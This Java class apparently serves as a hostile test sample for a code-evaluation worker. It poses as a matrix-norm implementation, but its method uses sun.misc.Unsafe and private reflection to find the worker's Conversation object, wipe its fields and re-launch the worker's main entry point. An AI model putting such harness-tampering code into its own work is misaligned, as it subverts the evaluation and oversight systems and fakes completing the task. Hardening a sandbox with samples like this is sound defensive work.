package hostile;

import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.lang.reflect.Field;
import org.ejml.data.DMatrixRMaj;

/** Looks the worker's own classes up by private means and replaces their fields: services, codecs, streams and turns. */
public final class Lookups extends RightDualNorm {

    @Override
    public double dualWeighted(DMatrixRMaj a, double[] x) {
        try {
            Object conversation = conversation();
            for (Field field : conversation.getClass().getDeclaredFields()) {
                System.out.println(field.getName());
                set(conversation, field, null);
            }
            Class<?> main = Class.forName("assay.worker.WorkerMain");
            MethodHandles.privateLookupIn(main, MethodHandles.lookup())
                    .findStatic(main, "start", MethodType.methodType(void.class, String[].class, String.class))
                    .invoke(new String[] {"/tmp", "/dev/null", "/dev/null"}, "assay.");
        } catch (Throwable e) {
            throw new IllegalStateException(e);
        }
        return 1;
    }

    /** The worker's conversation, which its thread's task has captured. */
    private static Object conversation() throws ReflectiveOperationException {
        sun.misc.Unsafe unsafe = unsafe();
        Object task = unsafe.getObject(
                Thread.currentThread(), unsafe.objectFieldOffset(Thread.class.getDeclaredField("target")));
        for (long at = 8; at < 32; at += 4) {
            if (unsafe.getInt(task, at) != 0) {
                Object captured = at < 12 ? null : unsafe.getObject(task, at);
                if (captured != null && captured.getClass().getName().equals("assay.worker.Conversation")) {
                    return captured;
                }
            }
        }
        throw new IllegalStateException("not found");
    }

    private static void set(Object owner, Field field, Object value) throws ReflectiveOperationException {
        sun.misc.Unsafe unsafe = unsafe();
        if (field.getType().isPrimitive()) {
            unsafe.putInt(owner, unsafe.objectFieldOffset(field), -1);
        } else {
            unsafe.putObject(owner, unsafe.objectFieldOffset(field), value);
        }
    }

    private static sun.misc.Unsafe unsafe() throws ReflectiveOperationException {
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        return (sun.misc.Unsafe) field.get(null);
    }
}
